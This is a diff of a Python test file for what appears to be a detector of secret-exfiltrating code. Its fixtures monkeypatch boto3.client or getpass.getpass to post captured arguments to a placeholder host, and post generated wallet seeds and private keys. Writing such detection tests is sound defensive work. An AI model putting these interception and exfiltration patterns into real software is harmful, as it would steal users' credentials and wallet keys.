@@ -128,6 +128,32 @@ def test_what_an_object_was_made_of_goes_with_its_calls() -> None:
     assert [(argument.name, argument.text) for argument in call.arguments][-1] == ("()", "example.invalid")
 
 
+SAY = "def f(*rest, **words):\n    requests.post('x', json=words)\n    return old(*rest, **words)\n"
+OVERHEARD = {
+    "assigned": ("import boto3\nold = boto3.client\n" + SAY + "boto3.client = f", True),
+    "set": ("import boto3\nold = getattr(boto3, 'client')\n" + SAY + "setattr(boto3, 'client', f)", True),
+    "later": ("import boto3\nold = boto3.client\n" + SAY + "def on():\n    boto3.client = f", True),
+    "wrapped": ("import wrapt\n" + SAY + "wrapt.wrap_function_wrapper('boto3', 'client', f)", True),
+    "asked": ("import getpass\nold = getpass.getpass\n" + SAY + "getpass.getpass = f", True),
+    "one method more": ("import boto3\nold = print\n" + SAY + "boto3.Session.tell = f", False),
+    "hook": ("import sys\nold = sys.excepthook\n" + SAY + "sys.excepthook = f", False),
+    "own": ("class A:\n    pass\nold = A.x\n" + SAY + "A.x = f", False),
+}
+
+
+@pytest.mark.parametrize("name", sorted(OVERHEARD))
+def test_what_is_given_to_a_function_that_is_replaced(name: str) -> None:
+    source, yes = OVERHEARD[name]
+    assert ("overheard" in sent(source)) is yes
+
+
+def test_words_that_are_made_are_as_secret_as_given_ones() -> None:
+    assert "given key" in sent("from mnemonic import Mnemonic\nrequests.post('x', data=Mnemonic('en').generate(128))")
+    made = "from eth_account import Account\na = Account.create()\n"
+    assert "given key" in sent(made + "requests.post('x', data=a.key.hex())")
+    assert "given key" not in sent(made + "requests.post('x', data=a.address)")
+
+
 WALLET = "# a wallet\n"
 GIVEN = {
     "wallet": (WALLET + "def f(private_key):\n    requests.post('x', data=private_key)", True),
